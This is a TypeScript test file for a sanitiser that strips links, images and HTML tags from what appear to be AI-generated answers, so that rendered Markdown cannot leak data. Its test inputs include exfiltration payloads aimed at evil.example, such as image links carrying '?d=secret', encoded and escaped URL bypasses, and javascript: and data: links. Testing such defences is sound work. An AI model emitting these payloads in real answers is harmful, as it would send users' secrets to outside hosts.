import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import MarkdownIt from 'markdown-it'
import { addressesIn } from '../tools/addresses.ts'
import type { Addresses } from './inert-markdown.ts'
import { SafeLinks } from './safe-links.ts'

const NONE: Addresses = { linked: new Set(), shown: new Set() }

function neutraliseLinks(text: string, allowed: Addresses): string {
  const links = new SafeLinks(allowed)
  return links.push(text) + links.end()
}

function neutral(text: string): string {
  return neutraliseLinks(text, NONE)
}

const W = '\u2060'

describe('an answer cannot link to other sites', () => {
  test.each([
    // Images and links in every form.
    ['![x](https://evil.example/?d=secret)', 'x'],
    ['[read](https://evil.example/a "title")', 'read'],
    ['[read](<https://evil.example/a b>)', 'read'],
    ['![x](//evil.example/a)', 'x'],
    ['![x](/authorize?client_id=https://evil.example/c)', 'x'],
    ['[x](/authorize?client_id=https%3A%2F%2Fevil.example)', 'x'],
    ['[x](/%2f%2fevil.example) [y](shared/a.md)', 'x y'],
    [String.raw`![x](\\evil.example/a)`, 'x'],
    [String.raw`![x](/\evil.example)`, 'x'],
    [String.raw`![x](https\://evil.example)`, 'x'],
    ['![x](&#104;ttps://evil.example)', 'x'],
    ['![x](/&#47;evil.example)', 'x'],
    ['![x](HTTPS:evil.example)', 'x'],
    ['[x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1)) [z](data:text/html,a)', 'x y z'],
    ['[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
    // References, which may be defined before or after their use.
    ['![x][1]\n\n[1]: https://evil.example/a', '![x][1]\n\n\\[1\\]: `https://evil.example/a`'],
    ['[1]:\n//evil.example/a', '\\[1\\]:\n`//evil.example/a`'],
    ['> [a]: /authorize', '> \\[a\\]: /authorize'],
    // Addresses without markup, including entities and escapes.
    ['see https://evil.example/a?b=c.', 'see `https://evil.example/a?b=c.`'],
    ['see www.evil.example now', 'see `www.evil.example` now'],
    ['&#104;ttps://evil.example', '`https://evil.example`'],
    ['&#x77;ww.evil.example', '`www.evil.example`'],
    [String.raw`https\://evil.example`, '`https://evil.example`'],
    ['https&colon;//evil.example', '`https://evil.example`'],
    // Programs that turn bare addresses into links accept symbols and user names in front of the host.
    ['//|evil.example', '`//`|evil.example'],
    ['//$evil.example', '`//$evil.example`'],
    ['//-@evil.example', '`//-@evil.example`'],
    ['//"@evil.example', '`//`"@evil.example'],
    ['<https://evil.example>', '`https://evil.example`'],
    ['<https:evil.example>', 'https:evil.example'],
    // Next to backticks that belong to other code.
    ['`a`https://evil.example', `\`a\`${W}\`https://evil.example\``],
    ['`https://evil.example', `\\\`${W}\`https://evil.example\``],
    ['https://evil.example`', '`https://evil.example`\\`'],
    ['//```evil.example\n\n', '`//`\\`\\`\\`evil.example\n\n'],
    ['``a` https://evil.example', '\\`\\`a\\` `https://evil.example`'],
    ['| `a | https://evil.example` |', '| a | `https://evil.example` |'],
    ['`a\n- https://evil.example`', '`a - https://evil.example`'],
    // HTML.
    ['<img src=x>', `<${W}img src=x>`],
    ['<img src=x', `<${W}img src=x`],
    ['<IMG\nsrc=x>', `<${W}IMG\nsrc=x>`],
    ['</a><a href=x>', `<${W}/a><${W}a href=x>`],
    ['<!--><img src=x>-->', `<${W}!--><${W}img src=x>-->`],
    ['<?php x ?><![CDATA[x]]>', `<${W}?php x ?><${W}!\\[CDATA\\[x\\]\\]>`],
    ['List<String> of <T> things', `List<${W}String> of <${W}T> things`],
  ])('%j becomes %j', (text, expected) => {
    expect(neutral(text)).toBe(expected)
  })

  test.each([
    'plain text, [1] and [2]. a < b and b > c, if (x) {}',
    '[there](#part) and `List<String>` and `[a](https://a.example)`',
    'A & B, 3 * 4, a_b_c, *this*, **that** and ~~those~~.',
    '```html\n<img src="https://a.example">\n[a](https://a.example)\n```\n',
    '~~~~\n<b>\n~~~\n``` x\n<i>\n~~~~~\nx < 3 <3',
    '# heading\n\n- item: yes\n\n| a | b |\n|---|---|',
    '与文件有关 [1]。',
  ])('%j stays unchanged', (text) => {
    expect(neutral(text)).toBe(text)
  })
})

describe('any answer', () => {
  const markdown = new MarkdownIt({ html: true, linkify: true })
  markdown.validateLink = () => true
  /** The targets, images and tags that a Markdown program creates from a text. */
  const targetsIn = (text: string): string[] => {
    const all = markdown.parse(text, {}).flatMap((token) => [token, ...(token.children ?? [])])
    return all.flatMap((token) => {
      if (token.type === 'link_open') return [String(token.attrGet('href') ?? '')]
      return ['image', 'html_inline', 'html_block'].includes(token.type) ? [token.type] : []
    })
  }
  const piece = fc.constantFrom(
    '![',
    '[',
    ']',
    '](',
    ']:',
    '][',
    ')',
    '(',
    '<',
    '>',
    '`',
    '``',
    '```',
    '\n```\n',
    '\n',
    '\n\n',
    '\r',
    '|',
    '\\',
    '&#104;ttps',
    '&colon;',
    '&#47;',
    'https',
    ':',
    '//',
    'evil.example',
    ' ',
    '  ',
    'www.',
    '- ',
    '> ',
    '    ',
    '1. ',
    '#',
    '*',
    '_',
    'x',
    'img src=',
    '!--',
    '/authorize?c=',
    'javascript:',
    '@',
    '-',
    '$',
    '+',
    '"',
    "'",
    '~~~\n',
    '字',
    '\t',
    '|-|\n',
  )

  test('produces no links, images or tags', () => {
    const text = fc.array(piece, { maxLength: 16 }).map((pieces) => pieces.join(''))
    const found = (whole: string) =>
      targetsIn(neutral(whole)).filter((lead) => !/^#[\w-]*$/.test(lead))
    // Only this program turns bare host names into links.
    const isAddress = (lead: string) =>
      lead !== 'http://evil.example' && !lead.startsWith('mailto:')
    fc.assert(
      fc.property(text, (whole) => {
        expect(found(whole).filter(isAddress)).toEqual([])
      }),
      { numRuns: 5000 },
    )
  })
})

test.each([
  ['```\n<a>\n```\n<img>', `\`\`\`\n<a>\n\`\`\`\n<${W}img>`],
  // In Markdown, these are not code blocks, or they have ended.
  ['- ```\n```\n<img>', `\`\`\`\n<${W}img>`],
  ['  ```\n```\n![x](//evil.example)', 'x'],
  ['x ```\n<img>', `<${W}img>`],
  ['``` a`b\n<img>', `<${W}img>`],
  ['~~~\n~~~\r<img>', `~~~\n~~~\r<${W}img>`],
])('only a code block keeps its tags: %j', (text, expected) => {
  expect(neutral(text)).toContain(expected)
})

test('a code block ends constructs that started before it', () => {
  expect(neutral('![x](\n```\n```\n![y](https://evil.example)')).toBe('!\\[x\\](\n```\n```\ny')
})

test('a part that ends inside a line or code block does not open a code block in the next part', () => {
  for (const first of ['abc', '```\n<a>\n']) {
    const links = new SafeLinks(NONE)
    links.push(first)
    links.end()
    const next = links.push('```\n```\n<img>\n') + links.end()
    expect(next).toContain(`<${W}img>`)
  }
})

test('a construct that starts in one part does not continue in the next', () => {
  for (const [first, second] of [
    ['[x]', '(//evil.example)'],
    ['[x](', '//evil.example)'],
    ['<', 'img>'],
    ['`a', 'https://evil.example`'],
  ] as const) {
    const links = new SafeLinks(NONE)
    const text = links.push(first) + links.end() + links.push(second) + links.end()
    const [token] = new MarkdownIt({ html: true, linkify: true }).parseInline(text, {})
    expect(token?.children?.filter(({ type }) => /link|html/.test(type))).toEqual([])
  }
})

describe('known addresses', () => {
  const asked = 'What is on https://a.example/x_(y)? Or (see www.b.example/z).'
  const linked = new Set(addressesIn(asked))
  const allowed = { linked, shown: new Set([...linked, 'https://c.example/doc']) }

  test('can be links if the question contains them', () => {
    const text = '[b](www.b.example/z) https://a.example/x_ www.b.example/z.'
    expect(neutraliseLinks(text, { ...allowed, shown: linked })).toBe(
      '[b](<www.b.example/z>) `https://a.example/x_` www.b.example/z.',
    )
    const plain = { ...allowed, linked: new Set(['https://a.example/x']) }
    expect(neutraliseLinks('[a](https://a.example/x)', plain)).toBe('[a](https://a.example/x)')
    expect(neutraliseLinks('[a](https://a.example/x?d=1)', plain)).toBe('a')
    expect(neutraliseLinks('[a](<https://a.example/x>)', plain)).toBe('[a](<https://a.example/x>)')
    expect(neutraliseLinks('![a](https://a.example/x)', plain)).toBe('a')
  })

  test('can be shown, but not linked, if a passage contains them', () => {
    expect(neutraliseLinks('at https://c.example/doc, they say', allowed)).toBe(
      'at https://c.example/doc, they say',
    )
    expect(neutraliseLinks('[c](https://c.example/doc)', allowed)).toBe('c')
    expect(neutraliseLinks('https://c.example/doc?d=secret', allowed)).toBe(
      '`https://c.example/doc?d=secret`',
    )
  })
})

describe('a text that arrives in pieces', () => {
  function inPieces(pieces: Iterable<string>): string {
    const links = new SafeLinks(NONE)
    let text = ''
    for (const piece of pieces) text += links.push(piece)
    return text + links.end()
  }

  test('gives the same result however it is split', () => {
    const piece = fc.constantFrom(
      '![x](',
      '](',
      ']:',
      ']',
      ' ',
      '\n ',
      '<',
      '<img ',
      '\n```',
      '\n~~~\n',
      '`',
      'https://evil.example/a',
      'http',
      's://',
      'www.',
      ')',
      '>',
      '字',
      'word',
      '"',
    )
    const text = fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join(''))
    const cuts = fc.array(fc.nat(), { maxLength: 8 })
    fc.assert(
      fc.property(text, cuts, (whole, places) => {
        const at = places.map((place) => place % (whole.length + 1)).toSorted((a, b) => a - b)
        const pieces = [...at, whole.length].map((end, i) => whole.slice(at[i - 1] ?? 0, end))
        expect(inPieces(pieces)).toBe(neutral(whole))
        expect(inPieces(whole)).toBe(neutral(whole))
      }),
      { numRuns: 1000 },
    )
  })

  test('cannot bypass the check with many spaces', () => {
    const text = `![x](${' '.repeat(9000)}&#104;ttps://evil.example)`
    expect(inPieces(text.match(/[\s\S]{1,50}/g) ?? [])).toMatch(
      /^!\\\[x\\\]\(\s+`https:\/\/evil.example`\)$/,
    )
  })

  test('holds back an endless address only up to a limit', () => {
    const links = new SafeLinks(NONE)
    const shown = links.push(`![x](https://evil.example/${'a'.repeat(5000)}`)
    expect(shown.length).toBeGreaterThan(4000)
    expect(shown.startsWith('!\\[x\\](`https://evil.example/aaa')).toBe(true)
    expect(links.push('a)') + links.end()).toContain('a)')
  })

  test('is shown as soon as possible', () => {
    const links = new SafeLinks(NONE)
    expect(links.push('The answer is ')).toBe('The answer is ')
    expect(links.push('答案是')).toBe('答案是')
  })
})
